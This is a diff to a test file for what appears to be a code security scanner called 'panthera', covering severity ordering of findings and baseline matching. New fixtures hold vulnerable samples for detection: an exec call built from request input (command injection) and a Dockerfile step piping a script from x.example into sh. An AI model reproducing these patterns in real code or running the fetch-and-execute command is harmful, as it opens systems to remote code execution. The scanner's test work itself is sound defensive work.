@@ -19,6 +19,7 @@ async function scan(cwd: string, args: string[] = [], options: Partial<CommandOp
   return { ...ran, stderr: stderr.replace(/^Scanning.*\n/gm, '') }
 }
 
+const levels = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW']
 const withKey = () =>
   folder({ 'src/pay.ts': `const key = '${critical}'\n`, 'ok.ts': 'export {}\n' })
 const steady = (text: string) => text.replace(/in [\d.]+ s/, 'in 0.1 s')
@@ -31,7 +32,7 @@ describe('panthera scan', () => {
     const lines = steady(stdout).split('\n')
     const shown = lines.filter((line) => /CRITICAL|│|^ {2}fix {7}\S|^\d/.test(line))
     const [heading, before, underline, ...rest] = shown
-    expect(heading).toBe(`  CRITICAL  stripe-live-key${' '.repeat(38)}src/pay.ts:1:14`)
+    expect(heading).toBe(`CRITICAL  stripe-live-key${' '.repeat(40)}src/pay.ts:1:14`)
     expect(before).toBe("   1 │ const key = 'sk_l…'")
     expect(underline).toBe('     │              ^^^^^')
     expect(rest.map((line) => line.slice(0, 6))).toEqual(['   2 │', '  fix ', '2 file', '1 crit'])
@@ -147,6 +148,37 @@ describe('panthera scan', () => {
       'Skipped: node_modules/: dependencies',
     ])
     expect((await scan(dir, ['--no-ignore'])).code).toBe(1)
+  })
+
+  it('tells the worst first, then how many of what, and what to do next', async () => {
+    const dir = folder({
+      'a.ts': `const key = '${low}'\n`,
+      'b.ts': `const key = '${critical}'\n`,
+      'c.js': "require('child_process').exec('ls ' + require('express').request.query.a)\n",
+      Dockerfile: 'FROM node:latest\nRUN curl http://x.example/a.sh | sh\n',
+    })
+    const { stdout, stderr } = await scan(dir)
+    const found = [...stdout.matchAll(/^(CRITICAL|HIGH|MEDIUM|LOW) +(\S+) +(\S+):\d+:\d+$/gm)]
+    const ranks = found.map(([, level = '']) => levels.indexOf(level))
+    expect(ranks).toEqual([...ranks].sort((a, b) => a - b))
+    expect(found[0]?.slice(1)).toEqual(['CRITICAL', 'stripe-live-key', 'b.ts'])
+    expect(stdout).toMatch(/^ {2}secrets +1 +- +- +1$/m)
+    expect(stdout).toMatch(/^ {2}total +\d+ +/m)
+    expect(stderr).toContain('\nNext\n  panthera explain stripe-live-key ')
+    expect(stderr).toContain('  panthera why b.ts:1 ')
+    expect(stderr).toContain('  panthera scan --write-baseline known.json ')
+  })
+
+  it('knows a finding again, whether its folder is scanned or all of the repository', async () => {
+    const secrets = ['--only', 'secrets']
+    const dir = withKey()
+    git(dir, 'init', '--quiet')
+    const known = join(temporaryFolder(), 'known.json')
+    await scan(dir, [...secrets, '--write-baseline', known])
+    const below = await scan(dir, ['src', ...secrets, '--baseline', known])
+    expect(below.stdout).toContain('No findings\n1 known in the baseline\n')
+    const { stdout } = await scan(join(dir, 'src'), [...secrets, '--format', 'json'])
+    expect(JSON.parse(stdout).findings).toMatchObject([{ location: { path: 'pay.ts' } }])
   })
 
   it('tells what is new against a baseline', async () => {
